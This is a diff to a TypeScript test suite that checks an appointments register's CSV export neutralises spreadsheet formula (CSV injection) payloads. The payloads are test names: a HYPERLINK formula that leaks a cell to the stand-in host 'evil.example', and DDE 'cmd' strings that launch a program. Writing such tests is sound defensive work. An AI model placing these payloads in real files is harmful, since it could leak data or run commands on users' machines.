@@ -12,6 +12,15 @@ const BASE = Date.parse('2026-04-01T09:30:00Z');
 
 let t: TestApp;
 
+const FORMULA_NAMES = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Aliyev")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
+
 beforeAll(async () => {
   t = await createTestApp(EXAM_ENV);
   const admin = await staffMember(t, 'administrator');
@@ -32,6 +41,8 @@ beforeAll(async () => {
     })),
     { fullName: 'Əliyev, "Kiçik" Nərmin', appointedAt: new Date(BASE) },
     { fullName: 'Алиев\nТимур', appointedAt: new Date(BASE + DAY) },
+    // Names a spreadsheet would run as formulas (CSV injection).
+    ...FORMULA_NAMES.map((fullName, i) => ({ fullName, appointedAt: new Date(BASE + (i + 2) * DAY) })),
   ]);
   const vacancies = await recordVacancies(
     t,
@@ -65,9 +76,17 @@ async function download(url: string, type: string) {
   return response.body;
 }
 
-/** A list item as its CSV row reads: every cell text, localised fields per language, lists as JSON. */
+/**
+ * A list item as its CSV row reads: every cell text, localised fields per language, lists as JSON, and
+ * text that a spreadsheet would take for a formula (starting with = + - @, a tab or a CR) behind a `'`.
+ */
 function csvRowOf<I>(item: I, columns: [string, (item: I) => string | number | boolean | null][]) {
-  return Object.fromEntries(columns.map(([header, get]) => [header, String(get(item) ?? '')]));
+  return Object.fromEntries(
+    columns.map(([header, get]) => {
+      const value = get(item);
+      return [header, typeof value === 'string' && /^[=+\-@\t\r]/.test(value) ? `'${value}` : String(value ?? '')];
+    }),
+  );
 }
 
 const KINDS = [
@@ -113,9 +132,28 @@ describe('exports equal the paginated API', () => {
         if (kind.name === 'appointments' && !('q' in query)) expect(listed.length).toBeGreaterThan(0);
         for (const row of rows) {
           expect(row.logIndex).toMatch(/^\d+$/);
-          expect(row.leafHash).toMatch(/^[A-Za-z0-9+/]{43}=$/);
+          expect(row.leafHash).toMatch(/^('\+|[A-Za-z0-9/])[A-Za-z0-9+/]{42}=$/);
         }
       });
+
+  it('writes a name a spreadsheet would run as a formula as text in CSV, and as it is in JSON', async () => {
+    const csv = await download('/api/register/appointments.csv?sort=name', 'text/csv');
+    const rows = parse(csv, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
+    const names = rows.map((r) => r.fullName);
+    for (const name of FORMULA_NAMES) {
+      expect(names).toContain(`'${name}`);
+      expect(names).not.toContain(name);
+    }
+    // Every cell of every line: nothing a spreadsheet would evaluate.
+    for (const record of parse(csv, { record_delimiter: '\r\n' }) as string[][])
+      for (const value of record) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+    // Numbers stay numbers: scores are not prefixed.
+    expect(rows.every((r) => /^\d+(\.\d+)?$/.test(r.finalScore!))).toBe(true);
+    const json = JSON.parse(await download('/api/register/appointments.json?sort=name', 'application/json')) as {
+      fullName: string;
+    }[];
+    for (const name of FORMULA_NAMES) expect(json.map((a) => a.fullName)).toContain(name);
+  });
 
   it('streams in batches: every batch seam keeps the order and loses no row', async () => {
     const listed = await pages<AppointmentItem>('/api/register/appointments', { sort: '-score' });
